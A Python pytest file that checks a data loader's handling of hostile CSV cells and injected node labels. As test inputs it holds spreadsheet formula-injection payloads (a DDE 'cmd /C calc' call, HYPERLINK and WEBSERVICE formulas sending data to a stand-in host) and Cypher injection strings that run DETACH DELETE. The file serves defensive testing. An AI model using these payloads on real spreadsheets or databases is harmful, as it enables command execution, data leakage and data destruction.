"""A8-A12, A19, A20: formulas in reject files, labels that try to be more than a label.

The command line writes one kind of CSV, the reject file. It keeps rows as received, so that a
corrected copy loads byte for byte; it is for an editor, not for a spreadsheet. Tables that are
meant for a spreadsheet, with formulas made harmless, come with an export command.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.hostile.conftest import Desk

CELLS = {
    "A8": ["=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
    "A9": ["+441234567890", "-5.00", "@sum(1,1)"],
    "A10": ["\t=1+1", "\r=1+1", "＝1+1", " =1+1", "\n=1+1"],
    "A11": ['=HYPERLINK("http://x.example/?"&A1,"open")', '=WEBSERVICE("http://x.example/")'],
    "A12": ["a;=1+1", "a,=1+1", 'a"=1+1', "a\t=1+1"],
}


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


@pytest.mark.parametrize("case", CELLS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_rejected_cells_come_back_byte_for_byte(desk: Desk, case: str, delimiter: str) -> None:
    cells = CELLS[case]
    head = delimiter.join(("id_no", "name", "alias"))
    rows = [delimiter.join(("NULL", quoted(cell), "x")) for cell in cells]
    entry = desk.text("persons", "\n".join([head, *rows]) + "\n")
    assert entry["rejected"] == len(cells)
    listed = desk.rejects(entry).read_bytes().decode("utf-8-sig")
    back = list(csv.DictReader(io.StringIO(listed, newline=""), delimiter=delimiter))
    assert [row["name"] for row in back] == cells
    # A corrected copy gives the same facts as a file that was right from the start.
    lines = list(csv.reader(io.StringIO(listed, newline=""), delimiter=delimiter))
    for n, line in enumerate(lines[1:]):
        line[0] = f"P{n}"
    path = desk.folder / "fixed.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out, delimiter=delimiter).writerows(lines)
    (fixed,) = desk.load("persons", path)
    assert fixed["loaded"] == len(cells)
    names = dict(desk.nodes("Person").select("key", "name").rows())
    assert names == {f"P{n}": cell.strip() for n, cell in enumerate(cells)}
    right = [row.replace("NULL", f"P{n}", 1) for n, row in enumerate(rows)]
    again = desk.text("persons", "\n".join([head, *right]) + "\n", "right.csv")
    assert again["duplicates"] == len(cells)
    shown = desk.cli("status").out + desk.cli("load", "persons", path, "--dry-run").out
    assert "\r" not in shown
    assert cells[0].strip()[:5] in shown


@pytest.mark.parametrize("case", ["A10"])
def test_a_nul_before_a_formula_is_rejected_and_kept(desk: Desk, case: str) -> None:
    entry = desk.text("persons", "id_no,name\nP1,\0=1+1\nP2,b\n")
    assert (entry["loaded"], entry["rejected"]) == (1, 1)
    assert "NUL" in " ".join(desk.reasons())
    assert b"=1+1" in desk.rejects(entry).read_bytes()


LABELS = {
    "A19": "Person`) DETACH DELETE n //",
    "A20": "Person\\u0060) DETACH DELETE n //",
}
CHOSEN = """\
mapping: labels
tables:
  - columns:
      id: {from: id, required: true}
      label: {from: label, required: true}
      type: {from: type, required: true}
    nodes:
      who: {kind: {value: label, of: [Person, Organisation]}, key: {text: id}}
      boss: {kind: Organisation, key: {text: id}}
    edges:
      - {kind: {value: type, of: [MEMBER_OF]}, from: who, to: boss, required: true}
"""


@pytest.mark.parametrize("case", LABELS)
def test_a_label_comes_from_the_list_only(desk: Desk, case: str) -> None:
    label = LABELS[case]
    rows = ["P1,Person,MEMBER_OF", f"P2,{label},MEMBER_OF", f"P3,Person,{label}"]
    entry = desk.text(desk.own(CHOSEN), "id,label,type\n" + "\n".join(rows) + "\n")
    assert (entry["loaded"], entry["rejected"]) == (1, 2)
    assert {row["column"] for row in desk.engine.status()["rejects"]} == {"label", "type"}
    assert set(desk.engine.status()["nodes"]) == {"Person", "Organisation"}
    # Nor can a mapping declare or choose it.
    for old, new in (("[Person, Organisation]", f"[{label!r}]"), ("kind: Organisation", label)):
        wrong = desk.file(
            "wrong.yaml", CHOSEN.replace(old, f"kind: {label!r}" if new == label else new)
        )
        ran = desk.cli("load", wrong, desk.folder / "f.csv")
        assert ran.code == 2
        assert "wrong.yaml, line" in ran.err
    kinds = f"kinds:\n  nodes:\n    {label!r}: {{key: x, description: y, props: {{}}}}\n"
    wrong = desk.file("wrong.yaml", CHOSEN.replace("tables:", kinds + "tables:"))
    ran = desk.cli("load", wrong, desk.folder / "f.csv")
    assert ran.code == 2
    assert "wrong.yaml, line" in ran.err
